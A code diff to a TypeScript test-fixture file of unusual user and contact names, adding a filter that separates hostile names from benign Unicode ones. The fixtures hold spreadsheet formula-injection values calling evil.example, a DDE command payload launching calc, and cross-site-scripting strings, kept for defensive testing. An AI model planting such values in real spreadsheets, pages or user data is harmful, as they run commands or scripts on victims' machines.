@@ -8,7 +8,7 @@ export const leastUsersForOddCases = 20;
  *
  * A spreadsheet would run the first two as formulas, a page would run the third as HTML.
  */
-export const oddNames: ReadonlyMap<number, Name> = new Map([
+const oddNames: ReadonlyMap<number, Name> = new Map([
   [3, { firstName: '=HYPERLINK("https://evil.example","Open', lastName: 'me")' }],
   [5, { firstName: '+1+1', lastName: '' }],
   [7, { firstName: '<img src=x', lastName: 'onerror=alert(1)>' }],
@@ -18,6 +18,12 @@ export const oddNames: ReadonlyMap<number, Name> = new Map([
   [13, { firstName: 'דוד', lastName: 'כהן' }],
   [14, { firstName: 'Anna', lastName: 'Schmidt' }],
 ]);
+
+const isHostile = ({ firstName }: Name): boolean => /^[=+@<]/.test(firstName);
+
+/** The odd names of users by place; without the hostile ones, an account can be shown to anybody. */
+export const namesOfOddUsers = (withHostile: boolean): ReadonlyMap<number, Name> =>
+  new Map([...oddNames].filter(([, name]) => withHostile || !isHostile(name)));
 
 /** This user is in two teams. */
 export const indexInTwoTeams = 2;
@@ -35,10 +41,14 @@ export const unlistedFromEnd = 1;
 export const unlistedSeconds = 1800;
 
 /** Contacts whose names break careless software; they come first in the list of contacts. */
-export const oddContacts: readonly Name[] = [
+const oddContacts: readonly Name[] = [
   { firstName: '=IMPORTXML("https://evil.example/x","//a")', lastName: '' },
   { firstName: '@SUM(1+1)*cmd|', lastName: "'/C calc'!A0" },
   { firstName: '<script>alert(2)</script>', lastName: 'Doe' },
   { firstName: 'Renée 💐', lastName: 'Fleurs 🌷' },
   { firstName: 'سارة', lastName: 'المنصور' },
 ];
+
+/** The odd names of contacts. */
+export const namesOfOddContacts = (withHostile: boolean): readonly Name[] =>
+  oddContacts.filter((name) => withHostile || !isHostile(name));
